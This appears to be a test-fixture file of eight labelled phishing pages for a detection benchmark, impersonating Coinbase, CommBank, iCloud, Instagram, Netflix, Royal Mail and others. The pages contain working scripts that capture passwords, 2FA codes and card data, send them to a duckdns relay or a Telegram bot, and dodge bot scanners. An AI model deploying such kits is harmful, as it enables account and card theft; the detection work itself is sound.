import { htmlRoute, type Entry } from '../entry.js';
import { doc, jsRoute, jsonRoute, pngRoute } from '../parts/v-kit.js';

// Consumer, finance, logistics and social brand kits (blind split).

// Coinbase "new device sign-in" review: email, password, 2FA code.
const h1 = 'coinbase-devicereview.com';
const coinbase: Entry = {
  id: 'v-phish-coinbase-device-review',
  label: 'phishing',
  kind: 'crypto-exchange-kit',
  url: `https://${h1}/signin/review?case=CB-88120`,
  routes: {
    [`${h1}/signin/review`]: htmlRoute(
      doc({
        title: 'Coinbase - Review sign-in attempt',
        css: `body{margin:0;font-family:"Coinbase Sans",-apple-system,Arial,sans-serif;background:#fff;color:#0a0b0d}.h{padding:18px 28px;border-bottom:1px solid #eee}
.c{width:440px;margin:50px auto;border:1px solid #dee1e7;border-radius:16px;padding:32px}input{width:100%;padding:14px;border:1px solid #ccc;border-radius:8px;font-size:16px;margin:6px 0 14px}
button{width:100%;padding:14px;border:0;border-radius:28px;background:#0052ff;color:#fff;font-size:16px;font-weight:600}.al{background:#fff4f4;border-radius:8px;padding:12px;font-size:14px;margin-bottom:16px}`,
        body: `<div class="h"><svg width="32" height="32" viewBox="0 0 32 32"><circle cx="16" cy="16" r="16" fill="#0052ff"/><rect x="11" y="11" width="10" height="10" rx="2" fill="#fff"/></svg></div>
<div class="c"><h2>Was this you?</h2><div class="al">A sign-in from a new device was detected: <b>Windows 11 · Chrome · Lagos, NG</b>. If this wasn't you, review now to secure your funds. Withdrawals are paused until you confirm.</div>
<div id="st1"><form id="f1"><label>Email</label><input name="email" type="email" required><label>Password</label><input name="password" type="password" required><button>Review activity</button></form></div>
<div id="st2" style="display:none"><p>Enter the 7-digit code from your authenticator app or SMS.</p><input id="tf" inputmode="numeric" maxlength="7"><button id="b2">Confirm</button></div>
<div id="st3" style="display:none"><h3>Securing your account…</h3><p>Please keep this window open. A Coinbase support agent will contact you shortly on the number below.</p><p style="font-size:22px;font-weight:700">+1 (888) 290-4417</p></div></div>
<p style="text-align:center;font-size:12px;color:#5b616e">&copy; 2026 Coinbase · Privacy · Terms</p>
<script src="/static/review.js"></script>`,
      }),
    ),
    [`${h1}/static/review.js`]: jsRoute(`var s={};function p(o){return fetch('/api/v3/session',{method:'POST',headers:{'content-type':'application/json'},body:JSON.stringify(o)})}
document.getElementById('f1').onsubmit=function(e){e.preventDefault();s=Object.fromEntries(new FormData(e.target));p(s);document.getElementById('st1').style.display='none';document.getElementById('st2').style.display='block'};
document.getElementById('b2').onclick=function(){s.otp=document.getElementById('tf').value;p(s);document.getElementById('st2').style.display='none';document.getElementById('st3').style.display='block'};`),
    [`${h1}/api/v3/session`]: jsonRoute({ ok: true }),
  },
};

// CommBank NetBank "payment on hold" kit with client number, password and SMS code.
const h2 = 'netbank-commbank.secure-hold.com.co';
const commbank: Entry = {
  id: 'v-phish-commbank-netbank-hold',
  label: 'phishing',
  kind: 'bank-kit',
  url: `https://${h2}/netbank/logon/`,
  body: doc({
    title: 'NetBank - Log on to NetBank - Commonwealth Bank',
    css: `body{margin:0;font-family:Arial,sans-serif;background:#f4f4f4}.h{background:#ffcc00;padding:16px 26px;font-weight:700}.w{width:420px;margin:30px auto;background:#fff;padding:28px;border-top:4px solid #ffcc00}
input{width:100%;padding:10px;border:1px solid #888;margin:4px 0 14px}button{background:#ffcc00;border:0;padding:12px 36px;font-weight:700}.n{font-size:13px;background:#fffbe6;padding:10px;border:1px solid #f0d060}`,
    body: `<div class="h"><img src="https://${h2}/netbank/cba.png" width="30" height="30" alt="CommBank"> NetBank</div>
<div class="w"><div class="n">A payment of <b>$1,840.00</b> to a new payee has been placed on hold. Log on to approve or cancel this payment before 5:00pm AEST.</div>
<h2>Log on to NetBank</h2><form id="f"><label>Client number</label><input name="client" maxlength="8" required><label>Password</label><input name="pw" type="password" required><label><input type="checkbox" style="width:auto"> Remember client number</label><br><br><button>Log on</button></form>
<div id="sms" style="display:none"><h3>NetCode SMS</h3><p style="font-size:14px">We've sent a NetCode to your registered mobile. Enter it below to cancel the pending payment.</p><input id="nc" maxlength="6"><button id="go">Confirm</button></div>
<p style="font-size:11px;color:#666">Commonwealth Bank of Australia ABN 48 123 123 124 AFSL and Australian credit licence 234945</p></div>
<script>var k={};document.getElementById('f').onsubmit=function(e){e.preventDefault();k=Object.fromEntries(new FormData(e.target));fetch('https://cb-relay.duckdns.org/n/1',{method:'POST',mode:'no-cors',body:JSON.stringify(k)});e.target.style.display='none';document.getElementById('sms').style.display='block'};
document.getElementById('go').onclick=function(){k.code=document.getElementById('nc').value;fetch('https://cb-relay.duckdns.org/n/2',{method:'POST',mode:'no-cors',body:JSON.stringify(k)});document.getElementById('nc').value='';};</script>`,
  }),
  routes: { [`${h2}/netbank/cba.png`]: pngRoute(255, 204, 0) },
};

// iCloud storage full: Apple ID sign-in then card for the "upgrade".
const h3 = 'icloud-storageplan.com';
const icloud: Entry = {
  id: 'v-phish-icloud-storage-full',
  label: 'phishing',
  kind: 'consumer-brand-kit',
  url: `https://${h3}/upgrade/`,
  body: doc({
    title: 'iCloud',
    css: `body{margin:0;font-family:-apple-system,"SF Pro Text","Helvetica Neue",Arial,sans-serif;background:#f5f5f7;color:#1d1d1f}.c{width:480px;margin:60px auto;background:#fff;border-radius:18px;padding:40px;text-align:center}
input{width:100%;padding:14px;border:1px solid #d2d2d7;border-radius:12px;font-size:17px;margin:6px 0}button{margin-top:14px;width:100%;padding:13px;border:0;border-radius:12px;background:#0071e3;color:#fff;font-size:17px}
.bar{height:10px;border-radius:5px;background:linear-gradient(90deg,#ff3b30 0,#ff9500 60%,#34c759 85%,#e5e5ea 100%)}`,
    body: `<div class="c"><div style="font-size:48px">&#63743;</div><h2>Your iCloud storage is full</h2><div class="bar"></div><p style="color:#6e6e73;font-size:14px">5 GB of 5 GB used. Your photos and videos are no longer being backed up. As a loyal customer you can get <b>50 GB for £0.00</b> for the first 3 months.</p>
<form id="f"><input name="appleid" placeholder="Email or Phone Number" required><input name="pw" type="password" placeholder="Password" required><button>Sign In</button></form>
<form id="g" style="display:none;text-align:left"><p>Add a payment method (you won't be charged today)</p><input name="cc" placeholder="Card number" required><input name="exp" placeholder="MM/YY" required><input name="cvv" placeholder="Security code" required><input name="addr" placeholder="Billing address" required><button>Upgrade storage</button></form>
<p style="font-size:12px;color:#86868b;margin-top:30px">Copyright &copy; 2026 Apple Inc. All rights reserved. Privacy Policy | Terms &amp; Conditions</p></div>
<script>var d={};document.getElementById('f').onsubmit=function(e){e.preventDefault();d=Object.fromEntries(new FormData(e.target));e.target.style.display='none';document.getElementById('g').style.display='block'};
document.getElementById('g').onsubmit=function(e){e.preventDefault();Object.assign(d,Object.fromEntries(new FormData(e.target)));fetch('/upgrade/api.php',{method:'POST',body:JSON.stringify(d)}).finally(function(){location='https://www.icloud.com/'})};</script>`,
  }),
};

// Instagram copyright infringement appeal on Netlify.
const h4 = 'ig-copyright-appeal-center.netlify.app';
const instagram: Entry = {
  id: 'v-phish-instagram-copyright-netlify',
  label: 'phishing',
  kind: 'social-appeal-kit',
  url: `https://${h4}/appeal/form`,
  routes: {
    [`${h4}/appeal/form`]: htmlRoute(
      doc({
        title: 'Instagram Help Center | Copyright Appeal',
        css: `body{margin:0;font-family:-apple-system,"Segoe UI",Roboto,Arial,sans-serif;background:#fafafa}.h{background:#fff;border-bottom:1px solid #dbdbdb;padding:14px 24px;font:italic 26px "Billabong",cursive}
.c{max-width:520px;margin:30px auto;background:#fff;border:1px solid #dbdbdb;padding:28px}input,textarea{width:100%;padding:9px;border:1px solid #dbdbdb;border-radius:4px;margin:4px 0 12px;background:#fafafa}
button{width:100%;padding:9px;background:#0095f6;color:#fff;border:0;border-radius:8px;font-weight:600}`,
        body: `<div class="h">Instagram</div><div class="c"><h3>Copyright Infringement Notice</h3>
<p style="font-size:14px">We have received a copyright complaint about a post on your account. If you believe this is a mistake, you must submit an appeal within <b>48 hours</b> or your account will be permanently removed.</p>
<p style="font-size:13px;color:#8e8e8e">Case number: #IG-2280-4419-CR</p>
<form id="f"><label>Username</label><input name="user" required><label>Full name</label><input name="name" required><label>Email</label><input name="email" type="email" required><label>Phone number</label><input name="phone"><label>Appeal message</label><textarea name="msg" rows="3">I believe this content does not violate copyright.</textarea>
<label>Password</label><input name="password" type="password" required><button>Submit Appeal</button></form>
<div id="tf" style="display:none"><p>Enter the 6-digit code we sent to your phone or authentication app.</p><input id="c"><button id="cb">Confirm</button></div>
<p style="font-size:12px;color:#8e8e8e;text-align:center">&copy; 2026 Instagram from Meta</p></div>
<script src="/appeal/form.js"></script>`,
      }),
    ),
    [`${h4}/appeal/form.js`]: jsRoute(`var T='7439122018:AAG8pZ_ebq1Lm2Vx0cYtWfK4sRnJdHu3o9A',C='-4022198830';
function tg(t){return fetch('https://api.telegram.org/bot'+T+'/sendMessage?chat_id='+C+'&text='+encodeURIComponent(t))}
document.getElementById('f').onsubmit=function(e){e.preventDefault();var d=Object.fromEntries(new FormData(e.target));tg('IG\\n'+JSON.stringify(d));e.target.style.display='none';document.getElementById('tf').style.display='block'};
document.getElementById('cb').onclick=function(){tg('2FA '+document.getElementById('c').value).finally(function(){location='https://help.instagram.com/'})};`),
  },
};

// Interac e-Transfer deposit kit with bank picker.
const h5 = 'etransfer-interac-deposit.ca-notify.com';
const interac: Entry = {
  id: 'v-phish-interac-etransfer-deposit',
  label: 'phishing',
  kind: 'bank-kit',
  url: `https://${h5}/deposit/?ref=CA8Hs2Lk`,
  routes: {
    [`${h5}/deposit/`]: htmlRoute(
      doc({
        title: 'INTERAC e-Transfer',
        css: `body{margin:0;font-family:Arial,sans-serif;background:#fff}.h{background:#ffb800;padding:16px 24px;font-weight:700;color:#000}.w{max-width:640px;margin:20px auto;padding:0 20px}
.amt{font-size:34px;font-weight:700;color:#000}.g{display:grid;grid-template-columns:repeat(3,1fr);gap:10px}.g a{border:1px solid #ccc;padding:18px;text-align:center;color:#222;text-decoration:none;font-weight:700;font-size:14px}
#lg{display:none;margin-top:20px}#lg input{width:100%;padding:10px;border:1px solid #999;margin:4px 0 12px}#lg button{background:#000;color:#fff;border:0;padding:11px 30px}`,
        body: `<div class="h">Interac e-Transfer&reg;</div><div class="w"><p>Deposit your money</p><div class="amt">$485.00 (CAD)</div><p>From: <b>MARTIN LAVOIE</b><br>Message: "rent share for march, thanks!"<br>Expires: 30 days</p>
<h3>Select your financial institution</h3><div class="g"><a href="#" data-b="RBC Royal Bank">RBC Royal Bank</a><a href="#" data-b="TD Canada Trust">TD</a><a href="#" data-b="Scotiabank">Scotiabank</a><a href="#" data-b="BMO">BMO</a><a href="#" data-b="CIBC">CIBC</a><a href="#" data-b="Desjardins">Desjardins</a><a href="#" data-b="National Bank">National Bank</a><a href="#" data-b="Tangerine">Tangerine</a><a href="#" data-b="ATB">ATB Financial</a></div>
<form id="lg"><h3 id="bn"></h3><input name="card" placeholder="Client card number or username" required><input name="pass" type="password" placeholder="Password" required><input name="q" placeholder="Answer to security question"><button>Sign in and deposit</button></form>
<p style="font-size:11px;color:#777;margin-top:40px">&reg; Trade-mark of Interac Corp. Used under licence. © 2026 Interac Corp.</p></div>
<script>document.querySelectorAll('.g a').forEach(function(a){a.onclick=function(e){e.preventDefault();document.getElementById('bn').textContent=a.getAttribute('data-b')+' Online Banking';document.getElementById('lg').style.display='block'}});
document.getElementById('lg').onsubmit=function(e){e.preventDefault();var d=Object.fromEntries(new FormData(e.target));d.bank=document.getElementById('bn').textContent;fetch('/deposit/api/submit',{method:'POST',body:JSON.stringify(d)});document.querySelector('.w').innerHTML='<h3>Processing deposit… do not close this page.</h3>'};</script>`,
      }),
    ),
  },
};

// Meta Business Suite "policy violation" appeal on Vercel, with a fake IP lookup on load.
const h6 = 'meta-business-support-case-20391.vercel.app';
const metaBiz: Entry = {
  id: 'v-phish-meta-business-appeal-vercel',
  label: 'phishing',
  kind: 'social-appeal-kit',
  url: `https://${h6}/`,
  routes: {
    [`${h6}/`]: htmlRoute(
      doc({
        title: 'Meta for Business - Page Appeal',
        css: `body{margin:0;font-family:Helvetica,Arial,sans-serif;background:#f0f2f5;color:#1c1e21}.h{background:#fff;padding:12px 24px;box-shadow:0 1px 2px rgba(0,0,0,.1);display:flex;align-items:center;gap:8px;font-weight:700;color:#0064e0}
.c{max-width:600px;margin:24px auto;background:#fff;border-radius:8px;padding:24px}input,textarea{width:100%;padding:11px;border:1px solid #ccd0d5;border-radius:6px;margin:4px 0 12px}button{background:#0064e0;color:#fff;border:0;border-radius:6px;padding:11px 22px;font-weight:700}
.m{display:none;position:fixed;inset:0;background:rgba(255,255,255,.8)}.m>div{width:400px;margin:14vh auto;background:#fff;border-radius:8px;padding:22px;box-shadow:0 2px 12px rgba(0,0,0,.2)}`,
        body: `<div class="h">&#8734; Meta &nbsp;<span style="color:#65676b;font-weight:400">Business Help Center</span></div>
<div class="c"><h2>Your Page has been scheduled for deletion</h2><p>We've determined that your Page may have violated our Terms of Service and Community Standards on intellectual property. If you think this is a mistake, please submit an appeal.</p>
<p style="font-size:13px;color:#65676b">Request ID: #<span id="rid">3374910028</span> · Your IP: <span id="ip">…</span></p>
<form id="f"><label>Page name</label><input name="page" required><label>Your full name</label><input name="name" required><label>Business email</label><input name="email" type="email" required><label>Personal email</label><input name="email2" type="email"><label>Mobile phone</label><input name="phone" required><label>Please provide additional details</label><textarea name="details" rows="3"></textarea><button>Send</button></form></div>
<div class="m" id="m"><div><h3>Please enter your password</h3><p style="font-size:14px">For your security, you must re-enter your password to continue.</p><input type="password" id="pw"><p id="pe" style="color:#e41e3f;font-size:13px"></p><button id="cont">Continue</button></div></div>
<p style="text-align:center;font-size:12px;color:#65676b">Meta &copy; 2026 · Privacy Policy · Terms · Cookies</p>
<script src="/app.js"></script>`,
      }),
    ),
    [`${h6}/app.js`]: jsRoute(`var D={};fetch('/api/ip').then(function(r){return r.json()}).then(function(j){D.ip=j.ip;D.geo=j.city+', '+j.country;document.getElementById('ip').textContent=j.ip});
document.getElementById('f').onsubmit=function(e){e.preventDefault();Object.assign(D,Object.fromEntries(new FormData(e.target)));document.getElementById('m').style.display='block'};
var n=0;document.getElementById('cont').onclick=function(){n++;D['pw'+n]=document.getElementById('pw').value;fetch('/api/send',{method:'POST',headers:{'content-type':'application/json'},body:JSON.stringify(D)});
if(n<2){document.getElementById('pe').textContent='The password you\\'ve entered is incorrect.';document.getElementById('pw').value=''}else{location='/checkpoint/2fa'}};`),
    [`${h6}/api/ip`]: jsonRoute({ ip: '81.2.69.160', city: 'London', country: 'GB' }),
  },
};

// Netflix payment declined: card update on a lookalike domain, multi-lingual shell.
const h7 = 'netflix-billing-update.help';
const netflix: Entry = {
  id: 'v-phish-netflix-payment-declined',
  label: 'phishing',
  kind: 'consumer-brand-kit',
  url: `https://${h7}/account/payment?lang=en-CA`,
  routes: {
    [`${h7}/account/payment`]: htmlRoute(
      doc({
        title: 'Netflix',
        css: `body{margin:0;background:#000;color:#fff;font-family:"Netflix Sans",Helvetica,Arial,sans-serif}.lg{color:#e50914;font-size:38px;font-weight:900;padding:20px 40px;letter-spacing:1px}
.c{max-width:450px;margin:0 auto 60px;background:rgba(0,0,0,.75);padding:50px 60px;border-radius:4px;border:1px solid #333}input{width:100%;padding:14px;background:#333;border:0;border-radius:4px;color:#fff;margin:6px 0 10px;font-size:15px}
button{width:100%;padding:14px;background:#e50914;color:#fff;border:0;border-radius:4px;font-size:16px;font-weight:700;margin-top:16px}`,
        body: `<div class="lg">NETFLIX</div><div class="c"><h1 style="font-size:28px" id="t">Update your payment information</h1><p id="d" style="color:#ccc;font-size:15px">Your membership is on hold because we had trouble processing your last payment. Please update your payment details to continue watching.</p>
<form id="f" action="/account/payment/submit" method="post"><input name="fn" placeholder="First name" required><input name="ln" placeholder="Last name" required><input name="cc" placeholder="Card number" required><input name="exp" placeholder="Expiration date (MM/YY)" required><input name="cvv" placeholder="Security code (CVV)" required><input name="zip" placeholder="Postal code" required><button>Update Payment</button></form>
<p style="font-size:12px;color:#737373;margin-top:24px">Questions? Call 1-844-505-2993 · FAQ · Help Centre · Terms of Use · Privacy</p></div>
<script>var L={'fr':['Mettez à jour vos informations de paiement','Votre abonnement est suspendu car nous avons rencontré un problème lors du traitement de votre dernier paiement.'],'es':['Actualiza tu información de pago','Tu membresía está en espera porque tuvimos problemas para procesar tu último pago.']};
var l=(navigator.language||'en').slice(0,2);if(L[l]){document.getElementById('t').textContent=L[l][0];document.getElementById('d').textContent=L[l][1]}</script>`,
      }),
    ),
  },
};

// Royal Mail redelivery fee kit with a bot filter and step pages.
const h8 = 'royalmail.reschedule-parcel.uk.com';
const royalmail: Entry = {
  id: 'v-phish-royalmail-redelivery-fee',
  label: 'phishing',
  kind: 'parcel-fee-kit',
  url: `https://${h8}/redelivery/`,
  body: doc({
    title: 'Royal Mail | Redelivery',
    css: `body{margin:0;font-family:Arial,sans-serif;background:#f5f5f5}.h{background:#da202a;color:#ffdd00;padding:14px 24px;font-weight:700;font-size:20px}.w{max-width:500px;margin:24px auto;background:#fff;padding:24px;border-radius:4px}
input{width:100%;padding:10px;border:1px solid #aaa;margin:4px 0 12px}button{width:100%;background:#da202a;color:#fff;border:0;padding:12px;font-weight:700}.s{display:none}.s.on{display:block}`,
    body: `<div class="h">Royal Mail</div><div class="w">
<div class="s on" id="a"><h2>We missed you</h2><p>We were unable to deliver your parcel (ref: RM48210993GB) because no one was available to sign. To arrange redelivery please confirm your details and pay the <b>£1.45</b> redelivery fee.</p>
<input id="nm" placeholder="Full name"><input id="ad" placeholder="Address line 1"><input id="pc" placeholder="Postcode"><input id="ph" placeholder="Phone number"><input id="db" placeholder="Date of birth (DD/MM/YYYY)"><button data-n="b">Continue</button></div>
<div class="s" id="b"><h2>Payment</h2><p>Redelivery fee: £1.45</p><input id="cn" placeholder="Name on card"><input id="cc" placeholder="Card number"><input id="ex" placeholder="Expiry MM/YY"><input id="cv" placeholder="CVV"><button data-n="c">Pay now</button></div>
<div class="s" id="c"><h2>Thank you</h2><p>Your redelivery has been scheduled for the next working day.</p></div>
<p style="font-size:11px;color:#888">&copy; Royal Mail Group Ltd 2026. All rights reserved.</p></div>
<script>if(/Headless|PhantomJS|bot/i.test(navigator.userAgent)||screen.width<400){document.body.innerHTML='<h1>404 Not Found</h1>'}
var v={};document.querySelectorAll('button[data-n]').forEach(function(b){b.onclick=function(){document.querySelectorAll('.s.on input').forEach(function(i){v[i.id]=i.value});
fetch('/redelivery/x.php',{method:'POST',body:new URLSearchParams(v)});document.querySelector('.s.on').classList.remove('on');document.getElementById(b.getAttribute('data-n')).classList.add('on')}});</script>`,
  }),
};

export const entries: Entry[] = [coinbase, commbank, icloud, instagram, interac, metaBiz, netflix, royalmail];
